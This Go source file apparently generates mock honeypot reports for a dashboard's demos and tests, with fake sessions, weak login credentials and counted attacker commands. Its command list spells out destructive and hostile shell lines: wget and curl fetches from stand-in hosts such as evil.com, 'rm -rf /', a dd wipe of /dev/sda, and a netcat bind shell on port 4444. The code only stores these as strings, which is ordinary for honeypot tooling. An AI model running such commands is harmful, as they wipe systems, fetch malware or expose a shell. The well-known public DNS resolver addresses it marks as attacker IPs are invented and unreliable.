package mockdata

import (
	"context"
	"fmt"
	"log/slog"
	"math/rand/v2"
	"sort"
	"strings"
	"time"

	"github.com/google/uuid"

	"github.com/Riesling1623/honeydash/internal/entity"
)

var (
	attackerIPs = []string{
		"8.8.8.8", "185.228.168.9", "114.114.114.114", "203.0.113.1", "80.80.80.80",
		"9.9.9.9", "208.67.220.220", "77.88.8.8", "1.1.1.1", "208.67.222.222",
	}
	usernames = []string{"root", "admin", "user", "test", "oracle", "postgres", "mysql", "ubuntu", "centos", "guest"}
	passwords = []string{"123456", "password", "admin", "root", "12345", "qwerty", "test", "123", "password123", ""}

	normalCommands = []string{
		"ls", "pwd", "whoami", "id", "ps", "top", "df", "free", "uptime", "cat /etc/passwd", "uname -a",
	}
	dangerousCommands = []string{
		"wget http://malware.com/bot.sh",
		"curl -O http://evil.com/miner",
		"rm -rf /",
		"dd if=/dev/zero of=/dev/sda",
		"chmod 777 /etc/passwd",
		"nc -l -p 4444 -e /bin/bash",
		`python -c "import os; os.system('rm -rf /')"`,
		"kill -9 -1",
	}
)

// Sink receives generated reports
type Sink interface {
	WriteReport(ctx context.Context, day time.Time, report *entity.DailyReport) error
}

// Generator produces plausible honeypot reports for demos and tests
type Generator struct {
	rng    *rand.Rand
	logger *slog.Logger
}

// NewGenerator creates a generator; the same seed yields the same reports
// apart from session ids
func NewGenerator(seed uint64, logger *slog.Logger) *Generator {
	return &Generator{
		rng:    rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)),
		logger: logger,
	}
}

// between returns a random int in [lo, hi]
func (g *Generator) between(lo, hi int) int {
	return lo + g.rng.IntN(hi-lo+1)
}

// SessionCount picks the number of sessions for day: busier on weekdays,
// jittered, never below one
func (g *Generator) SessionCount(day time.Time) int {
	var base int
	switch day.Weekday() {
	case time.Saturday, time.Sunday:
		base = g.between(3, 12)
	default:
		base = g.between(8, 25)
	}
	return max(1, base+g.between(-5, 10))
}

// Report builds the report of day with n sessions
func (g *Generator) Report(day time.Time, n int) *entity.DailyReport {
	date := day.Format("2006-01-02")

	ips := make([]string, len(attackerIPs))
	copy(ips, attackerIPs)
	g.rng.Shuffle(len(ips), func(i, j int) { ips[i], ips[j] = ips[j], ips[i] })
	ips = ips[:min(n, g.between(3, 8))]

	report := &entity.DailyReport{
		Metadata: entity.ReportMetadata{
			ReportDate: date + "T02:57:20.436835",
			AnalysisPeriod: entity.AnalysisPeriod{
				Start: date + "T00:00:00+00:00",
				End:   date + "T23:59:59+00:00",
			},
		},
		TopIPs:            []entity.IPCount{},
		DangerousCommands: []entity.CommandCount{},
	}

	ipCounts := make(map[string]int)
	cmdCounts := make(map[string]int)

	for i := 0; i < n; i++ {
		ip := ips[i%len(ips)]
		if i >= len(ips) {
			ip = ips[g.rng.IntN(len(ips))]
		}
		ipCounts[ip]++

		commands := make([]string, 0, 12)
		for j := g.between(1, 10); j > 0; j-- {
			commands = append(commands, normalCommands[g.rng.IntN(len(normalCommands))])
		}

		dangerous := []string{}
		if g.rng.Float64() > 0.7 {
			for j := g.between(1, 2); j > 0; j-- {
				cmd := dangerousCommands[g.rng.IntN(len(dangerousCommands))]
				dangerous = append(dangerous, cmd)
				cmdCounts[cmd]++
			}
			commands = append(commands, dangerous...)
		}

		downloads := []entity.Download{}
		if g.rng.Float64() > 0.9 {
			downloads = append(downloads, entity.Download{
				URL:      fmt.Sprintf("http://malicious-site%d.com/malware.sh", g.between(1, 5)),
				Filename: fmt.Sprintf("malware%d.sh", g.between(1, 100)),
			})
		}

		status := "success"
		if g.rng.IntN(4) == 0 {
			status = "failed"
		}

		ts := time.Date(day.Year(), day.Month(), day.Day(), g.rng.IntN(24), g.rng.IntN(60), g.rng.IntN(60), 0, time.UTC)

		report.SessionDetails = append(report.SessionDetails, entity.SessionDetail{
			ID:        strings.ReplaceAll(uuid.NewString(), "-", ""),
			IP:        ip,
			Timestamp: ts.Format("2006-01-02T15:04:05.000000Z"),
			Login: entity.SessionLogin{
				Username: usernames[g.rng.IntN(len(usernames))],
				Password: passwords[g.rng.IntN(len(passwords))],
				Status:   status,
			},
			Commands:          commands,
			DangerousCommands: dangerous,
			Downloads:         downloads,
		})
	}

	for _, ip := range ips {
		if ipCounts[ip] > 0 {
			report.TopIPs = append(report.TopIPs, entity.IPCount{IP: ip, Count: ipCounts[ip]})
		}
	}
	sort.SliceStable(report.TopIPs, func(i, j int) bool { return report.TopIPs[i].Count > report.TopIPs[j].Count })

	for _, cmd := range dangerousCommands {
		if count, ok := cmdCounts[cmd]; ok {
			cmd, count := cmd, count
			report.DangerousCommands = append(report.DangerousCommands, entity.CommandCount{Command: &cmd, Count: &count})
		}
	}

	report.Statistics = entity.ReportStatistics{
		TotalSessions: n,
		UniqueIPs:     len(report.TopIPs),
	}
	return report
}

// Generate writes one report per day in [start, end] to sink and returns
// the number of sessions written
func (g *Generator) Generate(ctx context.Context, start, end time.Time, sink Sink) (int, error) {
	if start.After(end) {
		return 0, fmt.Errorf("start date %s is after end date %s", start.Format("20060102"), end.Format("20060102"))
	}

	total := 0
	for day := start; !day.After(end); day = day.AddDate(0, 0, 1) {
		if err := ctx.Err(); err != nil {
			return total, err
		}

		n := g.SessionCount(day)
		if err := sink.WriteReport(ctx, day, g.Report(day, n)); err != nil {
			return total, fmt.Errorf("write report for %s: %w", day.Format("20060102"), err)
		}
		total += n

		g.logger.Info("Generated mock report", "date", day.Format("20060102"), "sessions", n)
	}
	return total, nil
}
